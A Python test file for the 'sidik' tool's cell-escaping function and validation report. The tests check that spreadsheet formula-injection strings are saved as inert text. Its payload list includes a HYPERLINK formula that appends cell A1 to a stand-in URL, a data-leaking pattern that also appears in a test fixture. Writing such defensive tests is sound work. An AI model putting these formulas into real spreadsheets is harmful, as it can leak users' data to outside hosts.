"""``sidik validate --report``: a marked, neutralised copy; and :func:`sel_aman` on its own."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from pipeline.errors import ExitCode
from pipeline.workbook import sel_aman
from tests.bantu.buku_kerja import baris_sah, buku
from tests.bantu.cli import sidik_di as sidik

BERBAHAYA = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
    "\t=1",
]


def xml_lembar(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(
            z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")
        )


def test_openpyxl_tanpa_sel_aman_menulis_rumus(tmp_path: Path) -> None:
    wb = Workbook()
    wb.active["A1"] = "=1+1"
    wb.save(tmp_path / "polos.xlsx")
    assert "<f>1+1</f>" in xml_lembar(tmp_path / "polos.xlsx")


@pytest.mark.parametrize("teks", BERBAHAYA)
def test_sel_aman_terbaca_kembali_sebagai_teks(tmp_path: Path, teks: str) -> None:
    wb = Workbook()
    sel_aman(wb.active["A1"], teks)
    wb.save(tmp_path / "aman.xlsx")
    assert "<f>" not in xml_lembar(tmp_path / "aman.xlsx")
    sel = load_workbook(tmp_path / "aman.xlsx").active["A1"]
    assert (sel.value, sel.data_type, sel.quotePrefix) == (teks, "s", True)


def test_sel_aman_membiarkan_nilai_biasa(tmp_path: Path) -> None:
    wb = Workbook()
    for i, nilai in enumerate(["Data penduduk", -5, 2.5, None, "a=b"], start=1):
        sel_aman(wb.active.cell(1, i), nilai)
    wb.save(tmp_path / "biasa.xlsx")
    ws = load_workbook(tmp_path / "biasa.xlsx").active
    assert [c.value for c in ws[1]] == ["Data penduduk", -5, 2.5, None, "a=b"]
    assert not any(c.quotePrefix for c in ws[1])


def buku_bermasalah(ruang: Path) -> Path:
    return buku(
        ruang / "input" / "salah.xlsx",
        [
            baris_sah(keterangan='=HYPERLINK("http://contoh.invalid","klik")'),
            baris_sah(judul="B", unit_kerja="Bagian Rahasia"),
            baris_sah(judul="C {{ x }}", pasal17_huruf="q"),
        ],
    )


def test_laporan_menandai_sel_dan_menetralkan(ruang_kerja: Path) -> None:
    asal = buku_bermasalah(ruang_kerja)
    sebelum = asal.read_bytes()
    hasil = sidik(ruang_kerja, "validate", "input/salah.xlsx", "--report", "laporan.xlsx")
    assert hasil.exit_code == ExitCode.INPUT_INVALID
    assert hasil.stdout.splitlines()[-1] == "Laporan ditulis: laporan.xlsx (4 sel ditandai)."
    assert hasil.stderr == (
        "Galat: input/salah.xlsx: 3 masalah harus diperbaiki di Excel; sesudah itu periksa "
        "ulang dengan 'sidik validate input/salah.xlsx'.\n"
    )
    assert asal.read_bytes() == sebelum
    wb = load_workbook(ruang_kerja / "laporan.xlsx")
    assert wb.sheetnames == ["Masalah", "Informasi"]
    ws = wb["Informasi"]
    ditandai = {
        c.coordinate: (c.fill.fgColor.rgb[-6:], c.comment.text)
        for r in ws.iter_rows()
        for c in r
        if c.comment
    }
    assert sorted(ditandai) == ["B4", "D3", "E4", "K2"]
    assert ditandai["K2"] == (
        "FFC7CE",
        "sel berisi rumus tanpa nilai tersimpan; buka dan simpan ulang di Excel, "
        "atau ketik nilainya langsung",
    )
    assert ditandai["D3"][0] == "FFC7CE" and ditandai["D3"][1].startswith(
        "unit kerja 'Bagian Rahasia' tidak ada di sidik.toml"
    )
    assert ditandai["E4"] == (
        "FFC7CE",
        "huruf Pasal 17 harus satu huruf a sampai j, bukan 'q'",
    )
    assert ditandai["B4"] == (
        "FFEB9C",
        "berisi '{{'; teks ini akan tampil apa adanya di dokumen (tidak dijalankan)",
    )
    assert ws["K2"].value.startswith("=HYPERLINK(") and ws["K2"].data_type == "s"
    assert "<f>" not in xml_lembar(ruang_kerja / "laporan.xlsx")
    tabel = [[c.value for c in r] for r in wb["Masalah"].iter_rows()]
    assert tabel[0] == ["Berkas", "Lembar", "Baris", "Kolom", "Nilai", "Jenis", "Masalah", "Sel"]
    assert [r[7] for r in tabel[1:]] == ["K2", "D3", "B4", "E4"]  # the cells marked above
    assert tabel[2][:6] == [
        "input/salah.xlsx",
        "Informasi",
        3,
        "Unit Kerja",
        "Bagian Rahasia",
        "galat",
    ]
    assert tabel[1][4].startswith("=HYPERLINK(")  # the value column is neutralised too
    assert [r[5] for r in tabel[1:]] == ["galat", "galat", "peringatan", "galat"]
    assert not (ruang_kerja / "output").exists()


def test_laporan_tidak_menimpa_buku_yang_diperiksa(ruang_kerja: Path) -> None:
    asal = buku_bermasalah(ruang_kerja)
    sebelum = asal.read_bytes()
    hasil = sidik(
        ruang_kerja, "validate", "input/salah.xlsx", "--report", "input/../input/salah.xlsx"
    )
    assert hasil.exit_code == ExitCode.INPUT_INVALID
    assert hasil.stdout == ""
    assert hasil.stderr == (
        "Galat: Laporan input/../input/salah.xlsx akan menimpa buku kerja yang diperiksa; "
        "pilih nama lain.\n"
    )
    assert asal.read_bytes() == sebelum


def test_laporan_untuk_berkas_yang_tak_terbaca(ruang_kerja: Path) -> None:
    (ruang_kerja / "input" / "data.xlsx").write_text("No;Judul\n", encoding="utf-8")
    hasil = sidik(ruang_kerja, "validate", "input/data.xlsx", "--report", "laporan.xlsx")
    assert hasil.exit_code == ExitCode.INPUT_INVALID
    assert "Laporan ditulis: laporan.xlsx (0 sel ditandai)." in hasil.stdout
    wb = load_workbook(ruang_kerja / "laporan.xlsx")
    assert wb.sheetnames == ["Masalah"]
    assert wb["Masalah"]["G2"].value.startswith("berkas ini berisi teks biasa")


def test_laporan_buku_bersih(ruang_kerja: Path) -> None:
    hasil = sidik(ruang_kerja, "validate", "input/informasi.xlsx", "--report", "l.xlsx")
    assert hasil.exit_code == 0
    assert hasil.stdout == (
        "Laporan ditulis: l.xlsx (0 sel ditandai).\n"
        "input/informasi.xlsx: 12 informasi, tidak ada masalah.\n"
        "Berikutnya (Operator): sidik run input/informasi.xlsx\n"
    )
    wb = load_workbook(ruang_kerja / "l.xlsx")
    assert wb.sheetnames == ["Masalah", "Informasi"] and wb["Masalah"].max_row == 1
    masalah = wb["Masalah"]
    assert (masalah.page_setup.orientation, masalah.page_setup.fitToWidth) == ("landscape", 1)
    assert masalah.print_title_rows == "$1:$1"


def test_tabel_dalam_bahasa_inggris(ruang_kerja: Path) -> None:
    buku_bermasalah(ruang_kerja)
    hasil = sidik(
        ruang_kerja, "--lang", "en", "validate", "input/salah.xlsx", env={"COLUMNS": "300"}
    )
    judul, _, *baris = hasil.stdout.splitlines()
    assert judul.split() == ["Cell", "Column", "Kind", "Problem"]
    assert len(baris) == 4
    assert [s.strip() for s in baris[1].split("  ") if s][:3] == ["D3", "Unit Kerja", "error"]
    assert baris[1].endswith(
        "  work unit 'Bagian Rahasia' is not in sidik.toml (choices: Sekretariat, "
        "Bidang Pelayanan Pendaftaran Penduduk, Bidang Pelayanan Pencatatan Sipil, "
        "Bidang Pengelolaan Informasi Administrasi Kependudukan)"
    )
    assert hasil.stderr == (
        "Error: input/salah.xlsx: 3 problem(s) must be fixed in Excel; then check again with "
        "'sidik validate input/salah.xlsx'.\n"
    )
